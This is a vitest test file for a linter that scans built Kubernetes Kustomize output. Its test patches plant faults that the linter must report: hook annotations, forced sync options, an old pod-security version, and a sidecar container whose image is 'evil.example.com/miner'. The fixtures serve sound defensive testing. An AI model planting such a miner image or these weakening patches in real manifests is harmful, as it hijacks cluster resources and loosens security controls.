import { cp, mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { releaseFiles, releaseOf } from "@slipway/testing/repositories/shop.ts";
import { afterEach, beforeEach, expect, test } from "vitest";
import { lintBuilt } from "./built.ts";

let folder: string;
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), "slipway-built-"));
  await cp(join(import.meta.dirname, "../../environments"), join(folder, "environments"), {
    recursive: true,
  });
  await mkdir(join(folder, "environments/dev/product/release"));
  for (const [path, text] of Object.entries(releaseFiles("dev", releaseOf("product")))) {
    await writeFile(join(folder, path), text);
  }
});
afterEach(() => rm(folder, { recursive: true, force: true }));

async function append(path: string, text: string): Promise<void> {
  await writeFile(join(folder, path), `${await readFile(join(folder, path), "utf8")}${text}`);
}

const onNamespace = (operation: string) =>
  `patches:\n  - target: { kind: Namespace }\n    patch: |-\n      - ${operation}\n`;

test.each([
  [
    "a hook, which a sync deletes",
    "{ op: add, path: /metadata/annotations/argocd.argoproj.io~1hook, value: Sync }",
    "the namespace has the annotation argocd.argoproj.io/hook",
  ],
  [
    "a hook of Helm",
    "{ op: add, path: /metadata/annotations/helm.sh~1hook-delete-policy, value: hook-succeeded }",
    "the namespace has the annotation helm.sh/hook-delete-policy",
  ],
  [
    "an object that is recreated",
    "{ op: replace, path: /metadata/annotations/argocd.argoproj.io~1sync-options, value: 'Prune=confirm,Delete=confirm,Force=true,Replace=true' }",
    "the namespace has the sync option Force=true",
  ],
  [
    "the restrictions of an old version",
    "{ op: add, path: /metadata/labels/pod-security.kubernetes.io~1enforce-version, value: v1.7 }",
    "the namespace admits what pod-security.kubernetes.io/enforce-version: v1.7 admits",
  ],
])("a patch makes the namespace %s", async (_, operation, words) => {
  await append("environments/prod/platform/kustomization.yaml", onNamespace(operation));
  expect((await lintBuilt(folder)).join("\n")).toContain(words);
});

test("the repository builds, with a release too; faults that a patch plants in the output are found", async () => {
  expect(await lintBuilt(folder)).toEqual([]);
  await append(
    "environments/prod/platform/kustomization.yaml",
    "patches:\n  - target: { kind: Namespace }\n    patch: |-\n      - { op: remove, path: /metadata/annotations }\n",
  );
  await append(
    "environments/dev/product/kustomization.yaml",
    "patches:\n  - target: { kind: Rollout }\n    patch: |-\n      - { op: copy, from: /spec/template/spec/containers/0, path: /spec/template/spec/containers/- }\n      - { op: replace, path: /spec/template/spec/containers/1/image, value: evil.example.com/miner }\n",
  );
  const found = await lintBuilt(folder);
  expect(found).toContainEqual(
    expect.stringMatching(
      /^environments\/prod\/platform\/kustomization\.yaml: the namespace lacks the sync option Prune=confirm/,
    ),
  );
  expect(found).toContainEqual(
    expect.stringMatching(
      /^environments\/dev\/product\/kustomization\.yaml: Rollout\/product .*evil\.example\.com\/miner/,
    ),
  );
});
